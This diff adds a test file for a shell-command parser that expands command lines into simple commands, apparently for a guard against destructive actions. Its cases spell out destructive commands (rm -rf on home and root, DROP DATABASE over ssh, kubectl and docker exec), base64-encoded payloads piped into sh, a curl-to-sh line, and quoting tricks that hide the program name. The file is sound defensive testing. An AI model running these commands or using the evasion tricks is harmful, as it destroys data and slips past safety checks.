@@ -1,0 +1,84 @@
+import { describe, expect, test } from 'vitest';
+import { commandsOf, expandLine } from '../helpers';
+
+describe('expansion into simple commands', () => {
+  test.each([
+    ['operators', 'cd / && rm -rf x || echo no; ls', ['cd /', 'rm -rf x', 'echo no', 'ls']],
+    ['pipes', 'cat a | grep b | wc -l', ['cat a', 'grep b', 'wc -l']],
+    ['subshell and braces', '( cd / && rm -rf * ); { rm y; }', ['cd /', 'rm -rf *', 'rm y']],
+    // Substitutions run before the command that uses their output.
+    ['command substitution', 'echo $(rm -rf ~)', ['rm -rf ~', 'echo $(rm -rf ~)']],
+    ['backticks', 'echo `rm -rf ~`', ['rm -rf ~', 'echo `rm -rf ~`']],
+    ['process substitution', 'diff <(rm -rf ~) b', ['rm -rf ~', 'diff <(rm -rf ~) b']],
+    ['sudo with options', 'sudo -u root -E rm -rf /srv', ['sudo -u root -E rm -rf /srv', 'rm -rf /srv']],
+    ['env with assignments', 'env -i FOO=1 rm -rf x', ['env -i FOO=1 rm -rf x', 'rm -rf x']],
+    ['timeout and nice', 'timeout -s KILL 10 nice -n 5 rm x', ['timeout -s KILL 10 nice -n 5 rm x', 'nice -n 5 rm x', 'rm x']],
+    ['command -v only looks up', 'command -v rm', ['command -v rm']],
+    ['xargs appends stdin', 'echo a b | xargs rm -rf', ['echo a b', 'xargs rm -rf', 'rm -rf a b']],
+    ['find -exec', 'find . -name node_modules -exec rm -rf {} +', ['find . -name node_modules -exec rm -rf {} +', 'rm -rf node_modules']],
+    ['parallel', 'parallel rm -rf ::: a b', ['parallel rm -rf ::: a b', 'rm -rf a b']],
+    ['watch joins its command', 'watch -n 5 rm -rf x', ['watch -n 5 rm -rf x', 'rm -rf x']],
+    ['busybox', 'busybox rm -rf /', ['busybox rm -rf /', 'rm -rf /']],
+    ['bash -c', "bash -c 'rm -rf ~'", ['bash -c rm -rf ~', 'rm -rf ~']],
+    ['bundled -lc', 'sh -lc "git push -f"', ['sh -lc git push -f', 'git push -f']],
+    ['eval', 'eval "rm -rf" ~', ['eval rm -rf ~', 'rm -rf ~']],
+    ['heredoc into a shell', 'bash <<EOF\nrm -rf ~\nEOF', ['bash', 'rm -rf ~']],
+    ['heredoc through cat into sh', 'cat <<EOF | sh\nrm -rf ~\nEOF', ['cat', 'sh', 'rm -rf ~']],
+    ['here-string into a shell', "sh <<< 'rm -rf /'", ['sh', 'rm -rf /']],
+    ['pipe into a shell', 'echo "rm -rf ~" | sh', ['echo rm -rf ~', 'sh', 'rm -rf ~']],
+    ['base64 into a shell', 'echo cm0gLXJmIH4= | base64 -d | sh', ['echo cm0gLXJmIH4=', 'base64 -d', 'sh', 'rm -rf ~']],
+    ['ssh payload', "ssh -p 22 prod-db 'rm -rf /var/lib/postgresql'", ["ssh -p 22 prod-db rm -rf /var/lib/postgresql", 'rm -rf /var/lib/postgresql']],
+    ['kubectl exec', 'kubectl exec -it db-0 -n prod -- psql -c "DROP TABLE users"', ['kubectl exec -it db-0 -n prod -- psql -c DROP TABLE users', 'psql -c DROP TABLE users']],
+    ['docker exec', "docker exec -u postgres db psql -c 'DROP DATABASE app'", ['docker exec -u postgres db psql -c DROP DATABASE app', 'psql -c DROP DATABASE app']],
+    ['python os.system', `python3 -c 'import os; os.system("rm -rf ~")'`, ['python3 -c import os; os.system("rm -rf ~")', 'rm -rf ~']],
+    ['python shutil.rmtree', `python -c "import shutil; shutil.rmtree('/home/u/proj')"`, [`python -c import shutil; shutil.rmtree('/home/u/proj')`, 'rm -rf /home/u/proj']],
+    ['node rmSync', `node -e "require('fs').rmSync('data', {recursive: true})"`, [`node -e require('fs').rmSync('data', {recursive: true})`, 'rm -rf data']],
+    ['node execSync', `node -e "require('child_process').execSync('dropdb prod')"`, [`node -e require('child_process').execSync('dropdb prod')`, 'dropdb prod']],
+    ['ruby system', `ruby -e 'system("rm -rf /")'`, ['ruby -e system("rm -rf /")', 'rm -rf /']],
+    ['perl system', `perl -e 'system "rm -rf ~"'`, ['perl -e system "rm -rf ~"', 'rm -rf ~']],
+    ['deno remove', `deno eval "await Deno.remove('/x', {recursive: true})"`, [`deno eval await Deno.remove('/x', {recursive: true})`, 'rm -rf /x']],
+    ['npx runner', 'npx prisma migrate reset --force', ['npx prisma migrate reset --force', 'prisma migrate reset --force']],
+  ])('%s', (_name, line, expected) => {
+    expect(commandsOf(line)).toEqual(expected);
+  });
+});
+
+describe('quoting tricks normalise to the real program', () => {
+  test.each([
+    ["r''m -rf ~", 'rm'],
+    ['\\rm -rf ~', 'rm'],
+    ['"/usr/bin/git" push --force', 'git'],
+    ['x=rm; $x -rf ~', 'rm'],
+    ["$'\\x72\\x6d' -rf ~", 'rm'],
+    ['$(echo rm) -rf ~', 'rm'],
+    ['$(echo cm0= | base64 -d) -rf ~', 'rm'],
+    ['/usr/bin/Python3.11 -V', 'python3'],
+  ])('%s', (line, program) => {
+    expect(expandLine(line).commands.map((c) => c.program)).toContain(program);
+  });
+});
+
+describe('spans point into the original line', () => {
+  test('a payload inside single quotes keeps exact offsets', () => {
+    const line = "sudo bash -c 'rm -rf ~'";
+    const rm = expandLine(line).commands.find((c) => c.program === 'rm');
+    expect(rm && line.slice(rm.span[0], rm.span[1])).toBe('rm -rf ~');
+  });
+  test('a decoded payload points at the word it came from', () => {
+    const line = 'echo cm0gLXJmIH4= | base64 -d | sh';
+    const rm = expandLine(line).commands.find((c) => c.program === 'rm');
+    expect(rm?.via).toEqual(['sh (stdin)']);
+    expect(rm && line.slice(rm.span[0], rm.span[1])).toBe('sh');
+  });
+});
+
+describe('what cannot be read is reported', () => {
+  test.each([
+    ['echo "unterminated', 'parse-error'],
+    ['$CMD -rf /', 'dynamic-program'],
+    ['python3 -c "import os,sys; os.system(sys.argv[1])"', 'dynamic-exec'],
+    ['curl -s https://x/p | base64 -d | sh', 'hidden-script'],
+  ])('%s → %s', (line, kind) => {
+    expect(expandLine(line).problems.map((p) => p.kind)).toContain(kind);
+  });
+});
